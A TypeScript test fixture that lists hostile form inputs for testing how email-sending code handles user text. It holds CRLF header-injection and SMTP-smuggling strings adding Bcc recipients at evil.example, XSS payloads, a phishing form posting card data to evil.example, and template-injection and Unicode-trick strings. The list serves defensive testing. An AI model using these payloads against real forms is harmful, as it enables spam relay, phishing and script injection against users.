/** A product that nobody writes by chance: where it shows, somebody's words were worked out as a program. */
export const workedOut = '62710561';
const sum = '7919*7919';

/** What people who mean harm type into forms whose words go into mails. */
export const hostileWords: readonly string[] = [
  // Further headers, and further lines of the SMTP dialogue.
  'Ada\r\nBcc: all@evil.example',
  'Ada\nBcc: all@evil.example',
  'Ada\rBcc: all@evil.example',
  'Ada\r\n\r\n<h1>Another body</h1>',
  'Ada\r\n.\r\nMAIL FROM:<eve@evil.example>',
  'Ada\u2028Bcc: all@evil.example',
  'Ada\u2029Bcc: all@evil.example',
  'Ada\u0085Bcc: all@evil.example',
  'Ada\u000bBcc: all@evil.example',
  'Ada\fBcc: all@evil.example',
  'Ada\0Bcc: all@evil.example',
  'Ada%0aBcc: all@evil.example',
  'Ada%0d%0aBcc: all@evil.example',
  'Ada\\r\\nBcc: all@evil.example',
  'Ada嘊嘍Bcc: all@evil.example',
  '=?utf-8?B?DQpCY2M6IGFsbEBldmlsLmV4YW1wbGU=?=',
  '=?utf-8?Q?Ada=0D=0ABcc:_all=40evil.example?=',
  // Further recipients.
  'ada@example.com, all@evil.example',
  'ada@example.com;all@evil.example',
  'Ada <all@evil.example>',
  '"Ada" <all@evil.example>, "Eve"',
  '"all@evil.example"@example.com',
  'ada@example.com\nall@evil.example',
  'all%evil.example@example.com',
  'evil.example!all@example.com',
  'undisclosed: all@evil.example, eve@evil.example;',
  // Markup.
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'><iframe src=https://evil.example></iframe>",
  '</td></tr></table><h1>Pay here</h1>',
  '<a href="https://evil.example">Your refund</a>',
  '<style>*{display:none}</style>',
  '<!--[if mso]><v:rect href="https://evil.example"><![endif]-->',
  '<form action=https://evil.example><input name=card></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  'javascript:alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<![CDATA[<script>alert(1)</script>]]>',
  // The languages of templates.
  `{{${sum}}}`,
  `\${${sum}}`,
  `<%= ${sum} %>`,
  `#{${sum}}`,
  `{%print(${sum})%}`,
  '{{constructor.constructor("return process")()}}',
  '$&$1$`',
  // What cannot be seen, turns reading round, breaks off, or is simply too much.
  '\u202egnp.yrotsuc',
  '\u2066Ada\u2069\ud800',
  '\u200b\u200d\ufeff',
  'A'.repeat(10_000),
];
